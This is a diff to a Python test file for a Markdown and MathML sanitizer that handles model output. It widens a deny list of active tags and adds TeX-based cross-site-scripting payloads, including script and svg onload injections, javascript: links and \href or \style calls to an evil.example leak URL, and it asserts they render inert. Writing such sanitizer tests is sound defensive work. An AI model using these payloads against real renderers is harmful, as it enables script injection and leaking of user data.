@@ -237,9 +237,13 @@ ROOT = Path(__file__).resolve().parent.parent
 # -- reading HTML as a browser would ---------------------------------------------------------------
 
 # Elements that load, run or restyle something, never acceptable from model output anywhere.
+# Math is MathML from the sanitizer's own allowlist (rendering.MATH_TAGS): presentation
+# elements only, with layout attributes only; the MathML that runs, links or switches content
+# (maction, semantics, annotation-xml; href, xlink:href) is here.
 LIVE_TAGS = {
-    "script", "img", "iframe", "frame", "svg", "math", "object", "embed", "style", "link",
-    "meta", "base", "video", "audio", "source", "picture", "template",
+    "script", "img", "iframe", "frame", "svg", "object", "embed", "style", "link", "meta",
+    "base", "video", "audio", "source", "picture", "template", "maction", "semantics",
+    "annotation-xml", "annotation", "mglyph", "malignmark",
 }  # fmt: skip
 SAFE_SCHEMES = {"", "http", "https", "mailto"}
 URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset", "poster"}
@@ -437,12 +441,24 @@ PAYLOADS = [
     "![x](https://evil.example/leak?d=secret)",
     '![x"onerror="alert(1)](https://evil.example/x.png)',
     "| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
+    # math, rendered as MathML: text, links and styles in TeX must not become markup
+    "$\\text{<script>alert(1)</script>}$",
+    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
+    "\\(\\mathrm{<svg onload=alert(1)>}\\)",
+    "$\\href{javascript:alert(1)}{click}$",
+    "$$\n\\href{https://evil.example/leak}{x}\n$$",
+    "$\\style{background:url(https://evil.example/leak)}{x}$",
+    "\\[\\class{x}{y} \\cssId{z}{w} \\toggle{a}{b}\\endtoggle\\]",
+    "$\\operatorname{<a href=javascript:alert(1)>x</a>}$",
 ]
 
 
 @pytest.mark.parametrize("source", PAYLOADS)
 def test_dangerous_markup_and_urls_are_stripped(pipeline, source):
     out = render_markdown(source)
+    # What the browser parses is what the sanitizer saw: sanitizing the output again changes
+    # nothing (a parser difference, MathML's namespaces included, would show here).
+    assert rendering.sanitize(out) == out, (source, out)
     parsed = assert_inert(out, model_output_only=True)
     hrefs = [
         value for _tag, attrs, _body in parsed.found for name, value in attrs if name == "href"
